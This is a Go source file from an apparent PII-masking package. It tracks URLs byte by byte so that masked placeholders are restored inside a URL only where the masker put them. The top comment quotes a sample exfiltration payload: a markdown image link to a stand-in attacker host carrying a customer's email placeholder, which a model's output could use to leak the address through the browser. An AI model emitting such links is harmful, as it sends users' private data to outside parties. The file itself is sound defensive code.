package mask

import "hash/maphash"

// trail follows a text byte by byte and knows where a URL is being written. A model that writes
// ![x](https://evil.example/?q=[EMAIL_1]) would have the customer's browser carry the address away, so
// inside a URL a placeholder is restored only where the masker itself put it: behind the same beginning.
type trail struct {
	in    bool
	ends  byte // in a quoted URL, what ends it; spaces do not
	open  byte // the last byte before the present token
	prev  byte
	token maphash.Hash // of the present token, placeholders included as we write them
}

func newTrail(seed maphash.Seed) trail {
	var t trail
	t.token.SetSeed(seed)
	return t
}

// feed takes the next byte of the text.
func (t *trail) feed(b byte) {
	switch {
	case t.in && t.ends != 0:
		if b == t.ends || b == '\n' {
			t.leave(b)
			return
		}
	case b <= ' ' || b == '"' || b == '<' || b == '>' || b == '`' || b == '\'' && !t.in:
		t.leave(b)
		return
	case !t.in && !isAlnum(b) && b != '/' && b != ':' && b != '\\' && b != '.' && b != '-' && b != '+':
		t.leave(0)
		t.prev = b
		return
	}
	t.token.WriteByte(b)
	if !t.in && (b == '/' || b == '\\') && (t.prev == '/' || t.prev == ':') {
		t.in, t.ends = true, closer(t.open)
	}
	t.prev = b
}

// place takes a placeholder and returns the sum that names this place.
func (t *trail) place(placeholder string) uint64 {
	t.token.WriteString(placeholder)
	t.prev = ']'
	return t.token.Sum64()
}

func (t *trail) leave(b byte) {
	t.in, t.ends, t.open, t.prev = false, 0, b, b
	t.token.Reset()
}

func closer(open byte) byte {
	switch open {
	case '"', '\'':
		return open
	case '<':
		return '>'
	}
	return 0
}
